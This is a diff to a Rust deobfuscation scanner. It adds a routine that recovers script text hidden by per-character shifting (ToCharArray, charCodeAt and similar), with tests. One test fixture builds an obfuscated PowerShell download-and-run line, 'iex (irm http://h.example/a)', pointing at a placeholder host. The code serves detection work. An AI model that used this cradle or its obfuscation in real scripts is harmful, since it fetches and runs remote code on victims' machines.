@@ -79,6 +79,43 @@ pub fn masked_texts(source: &str) -> Vec<String> {
             found.push(text);
         }
     }
+    for text in shifted(source, &lower, &masks) {
+        if !found.contains(&text) && found.len() < LISTS {
+            found.push(text);
+        }
+    }
+    found
+}
+
+/// Characters of a literal that was shifted or masked, at the least.
+const SHIFTED: usize = 16;
+
+/// What literals say whose characters the script takes one by one (`$s.ToCharArray()`, `s.charCodeAt(i)`) and changes
+/// by a mask: where that is likelier a program than what is written.
+fn shifted(source: &str, lower: &str, masks: &[Mask]) -> Vec<String> {
+    let takes = [
+        "tochararray(",
+        "charcodeat(",
+        "asc(mid",
+        "ascw(mid",
+        "[int][char]",
+    ];
+    if !takes.iter().any(|take| lower.contains(take)) {
+        return Vec::new();
+    }
+    let literals = source.split(['"', '\'']);
+    let literals = literals.filter(|text| text.len() >= SHIFTED && text.len() < NUMBERS);
+    let mut found = Vec::new();
+    for literal in literals.take(LISTS.saturating_mul(8)) {
+        let codes: Vec<u32> = literal.chars().map(u32::from).collect();
+        let texts = masks.iter().filter(|mask| **mask != Mask::Plain);
+        let texts = texts.filter_map(|mask| unmasked(&codes, *mask));
+        let likeliest = texts.max_by_key(|text| likeness(text));
+        found.extend(
+            likeliest
+                .filter(|text| text.contains([' ', '(']) && likeness(text) > likeness(literal)),
+        );
+    }
     found
 }
 
@@ -314,7 +351,16 @@ mod tests {
         ] {
             assert_eq!(masked_texts(source), ["alert"], "{source}");
         }
+        let shifted: String = "iex (irm http://h.example/a)"
+            .bytes()
+            .map(|byte| char::from(byte + 3))
+            .collect();
+        let source = format!(
+            "$s='{shifted}';foreach($c in $s.ToCharArray()){{$o+=[char]([int]$c-3)}};iex $o"
+        );
+        assert_eq!(masked_texts(&source), ["iex (irm http://h.example/a)"]);
         for source in [
+            "$s='An ordinary text of a script';foreach($c in $s.ToCharArray()){$o+=[char]([int]$c-3)}",
             "var k = [97,108,101,114,116]; r = k.map(double);",
             "r = String.fromCharCode(97, 108, 101, 114, 116);",
             "var t = [1,2,3,4,5]; s = String.fromCharCode(c);",
